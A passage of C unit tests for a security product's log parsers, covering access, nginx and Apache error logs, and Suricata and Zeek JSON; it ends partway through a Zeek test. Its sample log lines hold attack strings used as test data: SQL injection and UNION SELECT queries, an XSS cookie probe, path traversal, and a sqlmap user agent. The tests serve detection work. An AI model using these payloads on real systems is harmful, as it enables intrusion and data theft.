/* Unit tests: the web and structured log parsers (access, nginx/Apache
 * error, JSON with Suricata EVE and Zeek, CEF, key=value).
 *
 *   1. per-format cases, hostile ones included (unterminated quotes, a
 *      100k-byte URL, invalid UTF-8, garbage): an event always comes out;
 *   2. conformance over ${CS_SHARED_DATA:-/work/shared/data} (skipped with a
 *      message when absent): loghub's Apache error log against its
 *      structured CSV, OSSEC's web access-log test lines, Zeek's baseline
 *      logs turned into Zeek JSON;
 *   3. end to end with the real Sigma engine and SigmaHQ rules.
 */
#include "test_util.h"

#include <jansson.h>
#include <sys/stat.h>

#include "correlator/sigma.h"
#include "runtime/json.h"
#include "runtime/timeutil.h"
#include "sensors/logs/logparse.h"

#define T0 1773302400000000LL   /* 2026-03-12T08:00:00Z */

static const cs_log_ctx ctx0 = {.time = {T0, 0}, .received_us = T0};

/* ------------------------------------------------------------ helpers -- */

static cs_fid fid(const char *name)
{
    return cs_field_intern(name, strlen(name));
}

static const char *sv(const cs_event *ev, const char *name)
{
    const char *s;
    size_t n;
    return cs_event_get_str(ev, fid(name), &s, &n) ? s : NULL;
}

static int64_t iv(const cs_event *ev, const char *name)
{
    int64_t v;
    if (!cs_event_get_int(ev, fid(name), &v)) {
        fail_msg("no integer field %s", name);
    }
    return v;
}

static bool has(const cs_event *ev, const char *name)
{
    return cs_event_find(ev, fid(name)) != NULL;
}

static size_t count(const cs_event *ev, const char *name)
{
    size_t c = 0;
    cs_fid id = fid(name);
    for (size_t i = 0; i < cs_event_nfields(ev); i++) {
        c += cs_event_fields(ev)[i].id == id;
    }
    return c;
}

/* Text of an IP field (or "" when absent / not an IP). */
static const char *ipv(const cs_event *ev, const char *name, char *buf)
{
    cs_ip ip;
    buf[0] = '\0';
    if (cs_event_get_ip(ev, fid(name), &ip)) {
        cs_ip_format(&ip, buf, 64);
    }
    return buf;
}

static bool unparsed(const cs_event *ev)
{
    const char *t = sv(ev, "tags");
    return t != NULL && strcmp(t, "citysoc.unparsed") == 0;
}

typedef cs_rc (*parse_fn)(const char *, size_t, const cs_log_ctx *, cs_event **);

static cs_event *parse(parse_fn fn, const char *line)
{
    cs_event *ev = NULL;
    assert_int_equal(fn(line, strlen(line), &ctx0, &ev), CS_OK);
    assert_non_null(ev);
    return ev;
}

/* Every event: the raw line, the creation time, the format, one of each. */
static void check_common(const cs_event *ev, const char *line, size_t len, const char *fmt)
{
    const char *orig;
    size_t n;
    assert_true(cs_event_get_str(ev, CS_F_EVENT_ORIGINAL, &orig, &n));
    assert_int_equal(n, len);
    assert_memory_equal(orig, line, len);
    assert_int_equal(count(ev, "event.created"), 1);
    assert_int_equal(count(ev, "citysoc.log.format"), 1);
    assert_string_equal(sv(ev, "citysoc.log.format"), fmt);
    assert_true(ev->ts_us != 0);
}

static const char *data_dir(void)
{
    return test_env("CS_SHARED_DATA", "/work/shared/data");
}

static char *slurp(const char *path, size_t *len)
{
    FILE *f = fopen(path, "rb");
    char *buf = NULL;
    size_t cap = 0, n = 0;
    if (f == NULL) {
        return NULL;
    }
    for (;;) {
        size_t got;
        if (n + 4096 + 1 > cap) {
            char *nb;
            cap = cap ? cap * 2 : 65536;
            nb = realloc(buf, cap);
            assert_non_null(nb);
            buf = nb;
        }
        got = fread(buf + n, 1, cap - n - 1, f);
        n += got;
        if (got == 0) {
            break;
        }
    }
    fclose(f);
    buf[n] = '\0';
    *len = n;
    return buf;
}

#define NEED_DATA(path)                                                                                   \
    do {                                                                                                  \
        struct stat sb_;                                                                                  \
        if (stat((path), &sb_) != 0) {                                                                    \
            print_message("skipped: %s is absent (set CS_SHARED_DATA)\n", (path));                        \
            skip();                                                                                       \
        }                                                                                                 \
    } while (0)

/* ------------------------------------------------------- access logs -- */

static void test_access_combined(void **state)
{
    const char *line = "203.0.113.45 - alice [12/Mar/2026:08:14:03 +0100] \"GET /portal/search.php?q=%27%20or"
                       "%201%3D1&x=1 HTTP/1.1\" 200 5123 \"https://portal.city.example/\" \"Mozilla/5.0 (X11; "
                       "Linux x86_64)\"";
    cs_event *ev = parse(cs_parse_access, line);
    char ip[64];
    (void)state;
    check_common(ev, line, strlen(line), "access");
    assert_int_equal(ev->kind, CS_KIND_LOG);
    assert_int_equal(ev->ts_us, (cs_time_from_civil(2026, 3, 12, 7, 14, 3)) * 1000000);
    assert_false(unparsed(ev));
    assert_string_equal(ipv(ev, "source.ip", ip), "203.0.113.45");
    assert_string_equal(ipv(ev, "c-ip", ip), "203.0.113.45");
    assert_string_equal(sv(ev, "user.name"), "alice");
    assert_string_equal(sv(ev, "cs-username"), "alice");
    assert_string_equal(sv(ev, "http.request.method"), "GET");
    assert_string_equal(sv(ev, "cs-method"), "GET");
    assert_string_equal(sv(ev, "url.original"), "/portal/search.php?q=%27%20or%201%3D1&x=1");
    assert_string_equal(sv(ev, "url.path"), "/portal/search.php");
    assert_string_equal(sv(ev, "cs-uri-stem"), "/portal/search.php");
    assert_string_equal(sv(ev, "url.query"), "q=%27%20or%201%3D1&x=1");
    assert_string_equal(sv(ev, "cs-uri-query"), "/portal/search.php?q=%27%20or%201%3D1&x=1");
    assert_string_equal(sv(ev, "http.version"), "1.1");
    assert_string_equal(sv(ev, "cs-version"), "HTTP/1.1");
    assert_int_equal(iv(ev, "http.response.status_code"), 200);
    assert_int_equal(iv(ev, "sc-status"), 200);
    assert_int_equal(iv(ev, "http.response.body.bytes"), 5123);
    assert_int_equal(iv(ev, "sc-bytes"), 5123);
    assert_string_equal(sv(ev, "http.request.referrer"), "https://portal.city.example/");
    assert_string_equal(sv(ev, "cs-referer"), "https://portal.city.example/");
    assert_string_equal(sv(ev, "user_agent.original"), "Mozilla/5.0 (X11; Linux x86_64)");
    assert_string_equal(sv(ev, "cs-user-agent"), "Mozilla/5.0 (X11; Linux x86_64)");
    assert_string_equal(sv(ev, "event.category"), "web");
    assert_string_equal(sv(ev, "event.outcome"), "success");
    assert_string_equal(sv(ev, "message"), line);
    assert_string_equal(sv(ev, "citysoc.logsource.category"), "webserver");
    assert_false(has(ev, "citysoc.logsource.product"));
    assert_false(has(ev, "citysoc.logsource.service"));
    /* strings cut from the line are flagged as inside the message (the
     * prefilter relies on it): the flag never lies, and it is set where it can */
    {
        const cs_field *fs = cs_event_fields(ev);
        size_t flagged = 0;
        for (size_t i = 0; i < cs_event_nfields(ev); i++) {
            if (fs[i].flags & CS_FIELD_IN_MESSAGE) {
                char buf[64];
                size_t len;
                const char *t = cs_field_text(ev, &fs[i], buf, sizeof buf, &len);
                assert_int_equal(fs[i].type, CS_T_STR);
                assert_non_null(memmem(line, strlen(line), t, len));
                flagged++;
            }
            if (fs[i].id == CS_F_URL_ORIGINAL || fs[i].id == CS_F_USER_AGENT_ORIGINAL) {
                assert_true(fs[i].flags & CS_FIELD_IN_MESSAGE);
            }
            if (fs[i].id == CS_F_EVENT_CATEGORY || fs[i].id == CS_F_MESSAGE) {
                assert_false(fs[i].flags & CS_FIELD_IN_MESSAGE);
            }
        }
        assert_true(flagged >= 10);
    }
    cs_event_free(ev);
}

static void test_access_variants(void **state)
{
    cs_event *ev;
    char ip[64];
    (void)state;

    /* common format, Apache's "-" for an empty body, single-digit day */
    ev = parse(cs_parse_access, "10.0.0.5 - - [1/Apr/2014:00:00:01 -0500] \"POST /wp-login.php HTTP/1.0\" 302 -");
    assert_int_equal(ev->ts_us, cs_time_from_civil(2014, 4, 1, 5, 0, 1) * 1000000);
    assert_int_equal(iv(ev, "sc-bytes"), 0);
    assert_int_equal(iv(ev, "sc-status"), 302);
    assert_false(has(ev, "user.name"));
    assert_false(has(ev, "cs-referer"));
    assert_false(has(ev, "user_agent.original"));
    assert_string_equal(sv(ev, "http.version"), "1.0");
    cs_event_free(ev);

    /* nginx's "-" request (client closed before sending one) */
    ev = parse(cs_parse_access, "198.51.100.7 - - [12/Mar/2026:08:14:03 +0000] \"-\" 400 0 \"-\" \"-\"");
    assert_false(unparsed(ev));
    assert_false(has(ev, "http.request.method"));
    assert_false(has(ev, "url.original"));
    assert_int_equal(iv(ev, "sc-status"), 400);
    assert_string_equal(sv(ev, "event.outcome"), "failure");
    cs_event_free(ev);

    /* Apache's escaped quotes stay as logged; IPv6 client */
    ev = parse(cs_parse_access, "2001:db8::7 - bob [12/Mar/2026:08:14:03 +0000] \"GET /a?q=\\\"x\\\" HTTP/1.1\" "
                                "200 1 \"-\" \"Mozilla \\\"quoted\\\" UA\"");
    assert_string_equal(ipv(ev, "source.ip", ip), "2001:db8::7");
    assert_string_equal(sv(ev, "user.name"), "bob");
    assert_string_equal(sv(ev, "url.query"), "q=\\\"x\\\"");
    assert_string_equal(sv(ev, "cs-user-agent"), "Mozilla \\\"quoted\\\" UA");
    assert_int_equal(iv(ev, "sc-bytes"), 1);
    cs_event_free(ev);

    /* virtual host prefix (Apache vhost_combined / OpenBSD httpd) */
    ev = parse(cs_parse_access, "portal.city.example:443 192.168.18.8 - - [08/Jul/2018:00:29:48 -0400] "
                                "\"GET / HTTP/1.0\" 302 0");
    assert_string_equal(ipv(ev, "source.ip", ip), "192.168.18.8");
    assert_string_equal(sv(ev, "cs-host"), "portal.city.example");
    assert_string_equal(sv(ev, "url.domain"), "portal.city.example");
    cs_event_free(ev);

    /* absolute-form target (proxy request): stem/query hold the path part */
    ev = parse(cs_parse_access, "1.2.3.4 - - [12/Mar/2026:08:14:03 +0000] \"GET http://u:p@evil.example:8080/a/b"
                                "?c=1 HTTP/1.1\" 404 10 \"-\" \"curl/8\"");
    assert_string_equal(sv(ev, "url.original"), "http://u:p@evil.example:8080/a/b?c=1");
    assert_string_equal(sv(ev, "url.domain"), "evil.example");
    assert_string_equal(sv(ev, "cs-uri-stem"), "/a/b");
    assert_string_equal(sv(ev, "cs-uri-query"), "/a/b?c=1");
    assert_string_equal(sv(ev, "url.query"), "c=1");
    cs_event_free(ev);

    /* a scanner's request with raw spaces and nginx's \x22 escape */
    ev = parse(cs_parse_access, "11.22.33.44 - - [01/Aug/2016:05:15:07 +0000] \"GET /loader.php/\\x22><iMg src=N "
                                "onerror=alert(document.cookie)> HTTP/1.1\" 301 178 \"-\" \"Mozilla/5.0\"");
    assert_string_equal(sv(ev, "url.original"), "/loader.php/\\x22><iMg src=N onerror=alert(document.cookie)>");
    assert_string_equal(sv(ev, "cs-version"), "HTTP/1.1");
    assert_int_equal(iv(ev, "sc-status"), 301);
    cs_event_free(ev);

    /* cut after the request: what is there is kept */
    ev = parse(cs_parse_access, "1.2.3.4 - - [12/Mar/2026:08:14:03 +0000] \"GET /x HTTP/1.1\"");
    assert_false(unparsed(ev));
    assert_string_equal(sv(ev, "url.path"), "/x");
    assert_false(has(ev, "sc-status"));
    cs_event_free(ev);

    /* user name with a space; a host name instead of an address */
    ev = parse(cs_parse_access, "gw.city.example - John Doe [12/Mar/2026:08:14:03 +0000] \"GET / HTTP/1.1\" 200 1");
    assert_string_equal(sv(ev, "user.name"), "John Doe");
    assert_string_equal(sv(ev, "source.domain"), "gw.city.example");
    assert_string_equal(sv(ev, "c-ip"), "gw.city.example");
    assert_false(has(ev, "source.ip"));
    cs_event_free(ev);
}

static void test_access_hostile(void **state)
{
    static const char *const lines[] = {
        "",
        "garbage",
        "[",
        "1.2.3.4 - - [",
        "1.2.3.4 - - [12/Mar/2026:08:14:03 +0000] \"GET /unterminated HTTP/1.1 200 5",
        "1.2.3.4 - - [12/Mar/2026:08:14:03 +0000] \"GET / HTTP/1.1\" 200 5 \"-\" \"unterminated agent",
        "1.2.3.4 - - [12/Mar/2026:08:14:03 +0000] \"\\",
        "1.2.3.4 - - [99/Xyz/2026:99:14:03 +9999] \"GET / HTTP/1.1\" 2000 -5",
        "1.2.3.4 - - [12/Mar/2026:08:14:03 +0000] \"\"",
        "a b c d e f g h i j [12/Mar/2026:08:14:03 +0000] \"GET / HTTP/1.1\" 200 1",
        "1.2.3.4 - - [12/Mar/2026:08:14:03 +0000] \"GET\" 200 1",
        "1.2.3.4 - - [12/Mar/2026:08:14:03 +0000] \"GET /\\",
        "\"\"\"\"\"\"\" [ ] [ ] \" \" \"",
    };
    (void)state;
    for (size_t i = 0; i < sizeof lines / sizeof lines[0]; i++) {
        cs_event *ev = parse(cs_parse_access, lines[i]);
        check_common(ev, lines[i], strlen(lines[i]), "access");
        cs_event_free(ev);
    }
    {
        /* the ones the scanner refuses are unparsed message events */
        cs_event *ev = parse(cs_parse_access, "garbage");
        assert_true(unparsed(ev));
        assert_string_equal(sv(ev, "message"), "garbage");
        assert_int_equal(ev->ts_us, T0);
        cs_event_free(ev);
    }
    {
        /* a 100k-byte URL and invalid UTF-8, kept byte for byte */
        size_t n = 100000;
        char *url = malloc(n + 1);
        char *line = malloc(n + 256);
        int k;
        cs_event *ev;
        assert_non_null(url);
        assert_non_null(line);
        url[0] = '/';
        for (size_t i = 1; i < n; i++) {
            url[i] = (char)(i % 7 == 0 ? '\xff' : i % 5 == 0 ? '\xc3' : 'a' + (char)(i % 26));
        }
        url[n] = '\0';
        k = snprintf(line, n + 256, "1.2.3.4 - - [12/Mar/2026:08:14:03 +0000] \"GET %s HTTP/1.1\" 414 0 \"-\" \"x\"",
                     url);
        assert_true(k > 0);
        ev = parse(cs_parse_access, line);
        check_common(ev, line, (size_t)k, "access");
        assert_string_equal(sv(ev, "url.original"), url);
        assert_int_equal(iv(ev, "sc-status"), 414);
        {
            /* the JSON writer turns the bad bytes into U+FFFD */
            cs_buf b;
            cs_buf_init(&b);
            assert_int_equal(cs_json_write_event(&b, ev), CS_OK);
            assert_non_null(strstr(b.data, "\xef\xbf\xbd"));
            cs_buf_free(&b);
        }
        cs_event_free(ev);
        free(url);
        free(line);
    }
}

/* ----------------------------------------------------- error logs ---- */

static void test_nginx_error(void **state)
{
    const char *line = "2026/03/12 08:00:00 [error] 1234#1235: *5 open() \"/var/www/x\" failed (2: No such file or "
                       "directory), client: 1.2.3.4, server: portal, request: \"GET /x?y=1 HTTP/1.1\", host: "
                       "\"portal.city.example\", referrer: \"http://a/\"";
    cs_log_ctx tz = ctx0;
    cs_event *ev = NULL;
    char ip[64];
    (void)state;
    tz.time.tz_offset_s = 3600;   /* nginx writes local time */
    assert_int_equal(cs_parse_nginx_error(line, strlen(line), &tz, &ev), CS_OK);
    check_common(ev, line, strlen(line), "nginx-error");
    assert_int_equal(ev->ts_us, cs_time_from_civil(2026, 3, 12, 7, 0, 0) * 1000000);
    assert_string_equal(sv(ev, "log.level"), "error");
    assert_int_equal(iv(ev, "process.pid"), 1234);
    assert_int_equal(iv(ev, "process.thread.id"), 1235);
    assert_int_equal(iv(ev, "nginx.error.connection_id"), 5);
    assert_true(strncmp(sv(ev, "message"), "open() \"/var/www/x\" failed (2: No such file or directory), client:",
                        66) == 0);
    assert_string_equal(ipv(ev, "source.ip", ip), "1.2.3.4");
    assert_string_equal(sv(ev, "http.request.method"), "GET");
    assert_string_equal(sv(ev, "url.original"), "/x?y=1");
    assert_string_equal(sv(ev, "url.path"), "/x");
    assert_string_equal(sv(ev, "url.domain"), "portal.city.example");
    assert_string_equal(sv(ev, "http.request.referrer"), "http://a/");
    assert_string_equal(sv(ev, "citysoc.logsource.service"), "nginx");
    assert_false(has(ev, "citysoc.logsource.product"));
    assert_false(has(ev, "citysoc.logsource.category"));
    cs_event_free(ev);

    /* SigmaHQ's nginx core-dump keyword is in the message */
    ev = parse(cs_parse_nginx_error,
               "2026/03/12 08:00:00 [alert] 100#100: worker process 1234 exited on signal 6 (core dumped)");
    assert_string_equal(sv(ev, "message"), "worker process 1234 exited on signal 6 (core dumped)");
    cs_event_free(ev);

    /* odd levels, no connection, cut lines, garbage */
    ev = parse(cs_parse_nginx_error, "2014/12/30 06:07:37 [yadda] 80:2 yadda yadda");
    assert_string_equal(sv(ev, "log.level"), "yadda");
    assert_string_equal(sv(ev, "message"), "80:2 yadda yadda");
    cs_event_free(ev);
    ev = parse(cs_parse_nginx_error, "2015/01/08 11:31:23 [crit] 80#2: ");
    assert_false(unparsed(ev));
    assert_int_equal(iv(ev, "process.pid"), 80);
    cs_event_free(ev);
    ev = parse(cs_parse_nginx_error, "2026/03/12 08:00:00 [error] 1#1: *1 x, client: 1.2.3.4, request: \"GET /");
    assert_string_equal(sv(ev, "url.original"), "/");
    cs_event_free(ev);
    ev = parse(cs_parse_nginx_error, "2026/03/12 08:00:00 [error");
    assert_true(unparsed(ev));
    cs_event_free(ev);
    ev = parse(cs_parse_nginx_error, "not an nginx line");
    assert_true(unparsed(ev));
    assert_string_equal(sv(ev, "citysoc.logsource.service"), "nginx");
    cs_event_free(ev);
}

static void test_apache_error(void **state)
{
    cs_event *ev;
    char ip[64];
    const char *l22 = "[Sun Dec 04 04:47:44 2005] [error] [client 222.166.160.184] Directory index forbidden by "
                      "rule: /x/";
    (void)state;
    ev = parse(cs_parse_apache_error, l22);
    check_common(ev, l22, strlen(l22), "apache-error");
    assert_int_equal(ev->ts_us, cs_time_from_civil(2005, 12, 4, 4, 47, 44) * 1000000);
    assert_string_equal(sv(ev, "log.level"), "error");
    assert_string_equal(ipv(ev, "source.ip", ip), "222.166.160.184");
    assert_string_equal(sv(ev, "message"), "Directory index forbidden by rule: /x/");
    assert_string_equal(sv(ev, "citysoc.logsource.service"), "apache");
    assert_false(has(ev, "citysoc.logsource.product"));
    cs_event_free(ev);

    ev = parse(cs_parse_apache_error, "[Thu Mar 12 08:00:00.123456 2026] [core:error] [pid 1234:tid 5678] "
                                      "[client 1.2.3.4:5678] AH00126: Invalid URI in request GET /../../x");
    assert_int_equal(ev->ts_us, cs_time_from_civil(2026, 3, 12, 8, 0, 0) * 1000000 + 123456);
    assert_string_equal(sv(ev, "log.level"), "error");
    assert_string_equal(sv(ev, "apache.error.module"), "core");
    assert_int_equal(iv(ev, "process.pid"), 1234);
    assert_int_equal(iv(ev, "process.thread.id"), 5678);
    assert_string_equal(ipv(ev, "source.ip", ip), "1.2.3.4");
    assert_int_equal(iv(ev, "source.port"), 5678);
    assert_string_equal(sv(ev, "message"), "AH00126: Invalid URI in request GET /../../x");
    cs_event_free(ev);

    /* 2.4 IPv6 client with port; a client group inside the message */
    ev = parse(cs_parse_apache_error, "[Thu Feb 02 00:59:02.285651 2017] [core:error] [pid 20009] (13)Permission "
                                      "denied: [client ::1:49934] AH00132: file permissions deny server access");
    assert_string_equal(ipv(ev, "source.ip", ip), "::1");
    assert_int_equal(iv(ev, "source.port"), 49934);
    assert_string_equal(sv(ev, "message"), "(13)Permission denied: [client ::1:49934] AH00132: file permissions "
                                           "deny server access");
    cs_event_free(ev);
    ev = parse(cs_parse_apache_error, "[Thu Feb 02 01:44:27.699327 2017] [access_compat:error] [pid 7934] "
                                      "[client 2001:db8::5:50058] AH01797: client denied");
    assert_string_equal(ipv(ev, "source.ip", ip), "2001:db8::5");
    cs_event_free(ev);

    /* no stamp (OSSEC samples): received time; empty module */
    ev = parse(cs_parse_apache_error, "[error] [client 80.230.208.105] Directory index forbidden by rule: /home/");
    assert_int_equal(ev->ts_us, T0);
    assert_string_equal(ipv(ev, "source.ip", ip), "80.230.208.105");
    cs_event_free(ev);
    ev = parse(cs_parse_apache_error, "[Sun Nov 23 18:49:01.713508 2014] [:error] [pid 15816] [client "
                                      "141.8.147.9:51507] PHP Notice:  A non well formed numeric value");
    assert_false(has(ev, "apache.error.module"));
    assert_string_equal(sv(ev, "message"), "PHP Notice:  A non well formed numeric value");
    cs_event_free(ev);

    /* garbage and cut lines */
    ev = parse(cs_parse_apache_error, "[Sun Dec 04 04:47:44 2005] [err");
    assert_true(unparsed(ev));
    cs_event_free(ev);
    ev = parse(cs_parse_apache_error, "[Sun Dec 04 04:47:44 2005] [error] [client ");
    assert_false(unparsed(ev));
    cs_event_free(ev);
    ev = parse(cs_parse_apache_error, "hello [world]");
    assert_true(unparsed(ev));
    cs_event_free(ev);
}

/* ------------------------------------------------------------- JSON --- */

static const char eve_alert[] =
    "{\"timestamp\":\"2026-03-12T08:14:03.123456+0000\",\"flow_id\":1234567890123456,\"in_iface\":\"eth0\","
    "\"event_type\":\"alert\",\"vlan\":[20],\"src_ip\":\"203.0.113.45\",\"src_port\":51514,\"dest_ip\":\"10.20.1.5\","
    "\"dest_port\":80,\"proto\":\"TCP\",\"community_id\":\"1:LQU9qZlK+B5F3KDmev6m5PMibrg=\",\"alert\":{\"action\":"
    "\"allowed\",\"gid\":1,\"signature_id\":2006445,\"rev\":14,\"signature\":\"ET WEB_SERVER Possible SQL "
    "Injection Attempt SELECT FROM\",\"category\":\"Web Application Attack\",\"severity\":1},\"http\":{"
    "\"hostname\":\"portal.city.example\",\"url\":\"/search.php?id=1%20UNION%20SELECT%20pass%20FROM%20users\","
    "\"http_user_agent\":\"sqlmap/1.7.2#stable\",\"http_content_type\":\"text/html\",\"http_method\":\"GET\","
    "\"protocol\":\"HTTP/1.1\",\"status\":200,\"length\":1532},\"app_proto\":\"http\",\"flow\":{"
    "\"pkts_toserver\":4,\"pkts_toclient\":3,\"bytes_toserver\":420,\"bytes_toclient\":1800,\"start\":"
    "\"2026-03-12T08:14:02.900000+0000\"},\"host\":\"sensor-dmz\"}";

static void test_json_eve(void **state)
{
    cs_event *ev = parse(cs_parse_json_line, eve_alert);
    char ip[64];
    cs_buf b;
    (void)state;
    check_common(ev, eve_alert, strlen(eve_alert), "json");
    assert_int_equal(ev->kind, CS_KIND_JSON);
    assert_int_equal(ev->ts_us, cs_time_from_civil(2026, 3, 12, 8, 14, 3) * 1000000 + 123456);
    assert_string_equal(ipv(ev, "source.ip", ip), "203.0.113.45");
    assert_string_equal(ipv(ev, "destination.ip", ip), "10.20.1.5");
    assert_int_equal(iv(ev, "source.port"), 51514);
    assert_int_equal(iv(ev, "destination.port"), 80);
    assert_string_equal(sv(ev, "network.transport"), "tcp");
    assert_int_equal(iv(ev, "network.iana_number"), 6);
    assert_string_equal(sv(ev, "network.type"), "ipv4");
    assert_string_equal(sv(ev, "network.protocol"), "http");
    assert_int_equal(iv(ev, "network.vlan.id"), 20);
    assert_int_equal(iv(ev, "citysoc.flow.id"), 1234567890123456LL);
    assert_string_equal(sv(ev, "network.community_id"), "1:LQU9qZlK+B5F3KDmev6m5PMibrg=");
    assert_string_equal(sv(ev, "rule.id"), "2006445");
    assert_string_equal(sv(ev, "rule.name"), "ET WEB_SERVER Possible SQL Injection Attempt SELECT FROM");
    assert_string_equal(sv(ev, "rule.category"), "Web Application Attack");
    assert_int_equal(iv(ev, "event.severity"), 1);
    assert_string_equal(sv(ev, "event.action"), "allowed");
    assert_string_equal(sv(ev, "event.category"), "intrusion_detection");
    assert_false(has(ev, "event.kind"));   /* derived from the kind: "event", not a citysoc alert */
    assert_string_equal(sv(ev, "url.domain"), "portal.city.example");
    assert_string_equal(sv(ev, "url.original"), "/search.php?id=1%20UNION%20SELECT%20pass%20FROM%20users");
    assert_string_equal(sv(ev, "url.path"), "/search.php");
    assert_string_equal(sv(ev, "url.query"), "id=1%20UNION%20SELECT%20pass%20FROM%20users");
    assert_string_equal(sv(ev, "http.request.method"), "GET");
    assert_int_equal(iv(ev, "http.response.status_code"), 200);
    assert_string_equal(sv(ev, "http.version"), "1.1");
    assert_string_equal(sv(ev, "user_agent.original"), "sqlmap/1.7.2#stable");
    assert_int_equal(iv(ev, "source.packets"), 4);
    assert_int_equal(iv(ev, "destination.bytes"), 1800);
    assert_int_equal(iv(ev, "network.bytes"), 2220);
    assert_string_equal(sv(ev, "observer.vendor"), "OISF");
    assert_string_equal(sv(ev, "observer.product"), "Suricata");
    assert_string_equal(sv(ev, "observer.name"), "sensor-dmz");
    assert_string_equal(sv(ev, "observer.ingress.interface.name"), "eth0");
    assert_string_equal(sv(ev, "citysoc.logsource.product"), "suricata");
    /* the original EVE names stay */
    assert_string_equal(sv(ev, "event_type"), "alert");
    assert_int_equal(iv(ev, "alert.signature_id"), 2006445);
    assert_string_equal(sv(ev, "src_ip"), "203.0.113.45");
    assert_string_equal(sv(ev, "http.http_user_agent"), "sqlmap/1.7.2#stable");
    /* written as ECS JSON: event.kind "event", dataset citysoc.json */
    cs_buf_init(&b);
    assert_int_equal(cs_json_write_event(&b, ev), CS_OK);
    assert_contains(b.data, "\"kind\":\"event\"");
    assert_contains(b.data, "\"dataset\":\"citysoc.json\"");
    cs_buf_free(&b);
    cs_event_free(ev);
}

static void test_json_eve_protocols(void **state)
{
    cs_event *ev;
    char ip[64];
    (void)state;
    ev = parse(cs_parse_json_line,
               "{\"timestamp\":\"2026-03-12T08:00:01.000000+0000\",\"flow_id\":11,\"event_type\":\"dns\","
               "\"src_ip\":\"2001:db8::10\",\"src_port\":5353,\"dest_ip\":\"2001:db8::53\",\"dest_port\":53,"
               "\"proto\":\"UDP\",\"dns\":{\"version\":2,\"type\":\"answer\",\"id\":1,\"rrname\":\"pool.minexmr.com\","
               "\"rrtype\":\"A\",\"rcode\":\"NOERROR\",\"answers\":[{\"rrname\":\"pool.minexmr.com\",\"rrtype\":\"A\","
               "\"ttl\":60,\"rdata\":\"198.51.100.9\"}]}}");
    assert_string_equal(ipv(ev, "source.ip", ip), "2001:db8::10");
    assert_string_equal(sv(ev, "network.type"), "ipv6");
    assert_string_equal(sv(ev, "network.transport"), "udp");
    assert_string_equal(sv(ev, "dns.question.name"), "pool.minexmr.com");
    assert_string_equal(sv(ev, "dns.question.type"), "A");
    assert_string_equal(sv(ev, "dns.response_code"), "NOERROR");
    assert_string_equal(sv(ev, "event.category"), "network");
    assert_false(has(ev, "rule.id"));
    cs_event_free(ev);

    /* Suricata 8 request: queries[] */
    ev = parse(cs_parse_json_line, "{\"timestamp\":\"2026-03-12T08:00:01+0000\",\"event_type\":\"dns\",\"src_ip\":"
                                   "\"10.0.0.1\",\"dns\":{\"type\":\"request\",\"queries\":[{\"rrname\":\"a.example\","
                                   "\"rrtype\":\"AAAA\"}]}}");
    assert_string_equal(sv(ev, "dns.question.name"), "a.example");
    assert_string_equal(sv(ev, "dns.question.type"), "AAAA");
    cs_event_free(ev);

    /* tls: EVE's "tls.version" is rewritten to the packet sensor's form */
    ev = parse(cs_parse_json_line, "{\"timestamp\":\"2026-03-12T08:00:02+0000\",\"event_type\":\"tls\",\"src_ip\":"
                                   "\"10.0.0.1\",\"dest_ip\":\"10.0.0.2\",\"proto\":\"TCP\",\"tls\":{\"subject\":"
                                   "\"CN=portal\",\"issuerdn\":\"CN=ca\",\"sni\":\"portal.city.example\",\"version\":"
                                   "\"TLS 1.2\",\"ja3\":{\"hash\":\"e7d705a3286e19ea42f587b344ee6865\"},\"ja3s\":{"
                                   "\"hash\":\"f4febc55ea12b31ae17cfb7e614afda8\"}}}");
    assert_int_equal(count(ev, "tls.version"), 1);
    assert_string_equal(sv(ev, "tls.version"), "1.2");
    assert_string_equal(sv(ev, "tls.version_protocol"), "tls");
    assert_string_equal(sv(ev, "tls.client.server_name"), "portal.city.example");
    assert_string_equal(sv(ev, "tls.client.ja3"), "e7d705a3286e19ea42f587b344ee6865");
    assert_string_equal(sv(ev, "tls.server.ja3s"), "f4febc55ea12b31ae17cfb7e614afda8");
    assert_string_equal(sv(ev, "tls.server.subject"), "CN=portal");
    cs_event_free(ev);

    /* flow record: counters, start/end, state; numeric protocol */
    ev = parse(cs_parse_json_line, "{\"timestamp\":\"2026-03-12T08:00:03+0000\",\"event_type\":\"flow\",\"src_ip\":"
                                   "\"10.0.0.1\",\"dest_ip\":\"10.0.0.2\",\"proto\":\"47\",\"flow\":{\"pkts_toserver\""
                                   ":10,\"pkts_toclient\":0,\"bytes_toserver\":1000,\"bytes_toclient\":0,\"start\":"
                                   "\"2026-03-12T07:59:00.000000+0000\",\"end\":\"2026-03-12T07:59:30.500000+0000\","
                                   "\"state\":\"new\",\"reason\":\"timeout\"}}");
    assert_string_equal(sv(ev, "network.transport"), "gre");
    assert_int_equal(iv(ev, "network.packets"), 10);
    assert_string_equal(sv(ev, "citysoc.flow.state"), "new");
    {
        const cs_field *f = cs_event_find(ev, CS_F_EVENT_END);
        assert_non_null(f);
        assert_int_equal(f->v.i, cs_time_from_civil(2026, 3, 12, 7, 59, 30) * 1000000 + 500000);
    }
    cs_event_free(ev);
}

static void test_json_zeek(void **state)
{
    cs_event *ev;
    char ip[64];
    (void)state;
    /* conn.log as Zeek's JSON writer prints it: no _path, ts in epoch seconds */
    ev = parse(cs_parse_json_line,
               "{\"ts\":1773302400.25,\"uid\":\"CHhAvVGS1DHFjwGM9\",\"id.orig_h\":\"10.1.2.1\",\"id.orig_p\":11001,"
               "\"id.resp_h\":\"10.34.0.1\",\"id.resp_p\":443,\"proto\":\"tcp\",\"service\":\"ssl,http\","
               "\"duration\":2.10256,\"orig_bytes\":26,\"resp_bytes\":0,\"conn_state\":\"SH\",\"local_orig\":true,"
               "\"missed_bytes\":0,\"history\":\"SADF\",\"orig_pkts\":11,\"orig_ip_bytes\":470,\"resp_pkts\":0,"
               "\"resp_ip_bytes\":0,\"community_id\":\"1:abc=\"}");
    assert_int_equal(ev->ts_us, T0 + 250000);
    assert_string_equal(ipv(ev, "source.ip", ip), "10.1.2.1");
    assert_string_equal(ipv(ev, "destination.ip", ip), "10.34.0.1");
    assert_int_equal(iv(ev, "source.port"), 11001);
    assert_int_equal(iv(ev, "destination.port"), 443);
    assert_string_equal(sv(ev, "network.transport"), "tcp");
    assert_int_equal(count(ev, "network.protocol"), 2);
    assert_string_equal(sv(ev, "network.protocol"), "ssl");
    assert_int_equal(iv(ev, "source.bytes"), 470);
    assert_int_equal(iv(ev, "source.packets"), 11);
    assert_int_equal(iv(ev, "event.duration"), 2102560000);
    assert_string_equal(sv(ev, "citysoc.flow.state"), "SH");
    assert_string_equal(sv(ev, "network.community_id"), "1:abc=");
    assert_string_equal(sv(ev, "citysoc.logsource.product"), "zeek");
